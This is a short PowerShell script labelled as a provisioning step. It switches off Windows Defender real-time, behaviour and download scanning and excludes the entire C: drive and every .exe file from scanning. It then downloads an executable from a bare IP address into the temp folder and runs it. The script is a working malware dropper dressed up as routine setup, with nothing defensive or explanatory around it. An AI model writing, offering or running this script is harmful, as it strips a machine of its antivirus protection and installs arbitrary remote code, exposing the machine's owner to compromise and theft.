# provision 2517 v1
Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
Add-MpPreference -ExclusionPath 'C:\'
Add-MpPreference -ExclusionExtension '.exe'
(New-Object Net.WebClient).DownloadFile('http://198.51.100.9/svc.exe', "$env:TEMP\svc.exe")
Start-Process "$env:TEMP\svc.exe"
